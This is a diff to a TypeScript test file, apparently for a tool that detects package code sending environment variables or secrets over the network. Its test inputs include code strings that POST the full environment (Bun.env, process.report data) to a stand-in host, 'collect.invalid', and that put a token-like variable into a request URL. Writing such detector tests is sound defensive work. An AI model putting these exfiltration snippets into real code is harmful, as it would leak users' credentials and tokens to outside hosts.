@@ -61,4 +61,25 @@ describe('the environment', () => {
     const grows = `names.add(process.argv[2] || 'x'); if (process.argv[3]) names.add('NPM_TOKEN');`;
     assert.deepEqual(sendsBy(`${grows} ${WAYS[0]?.('names.has(k)') ?? ''}`), SENT);
   });
+
+  it('tells all there is wherever it is asked for by', () => {
+    const sent = (env: string) =>
+      flowsOf(`fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(${env}) });`);
+    for (const env of ['Bun.env', 'process.report.getReport().environmentVariables'])
+      assert.deepEqual(sent(env), ['environment>network@collect.invalid'], env);
+    assert.deepEqual(
+      flowsOf(
+        `const { environmentVariables: e, header: h } = process.report.getReport(); fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify({ e, h }) });`,
+      ),
+      ['environment>network@collect.invalid'],
+    );
+  });
+
+  it('is asked for one variable by a name of which a part is known (node-pre-gyp)', () => {
+    const host = (name: string) =>
+      flowsOf(`exports.install = (o) => fetch('https://mirror.invalid/' + process.env[${name}]);`);
+    assert.deepEqual(host(`'npm_config_' + o.module + '_binary_host_mirror'`), []);
+    assert.deepEqual(host('o.module'), ['environment>network@mirror.invalid']);
+    assert.deepEqual(host(`o.module + '_ACCESS_TOKEN'`), ['secret-variable>network@mirror.invalid']);
+  });
 });
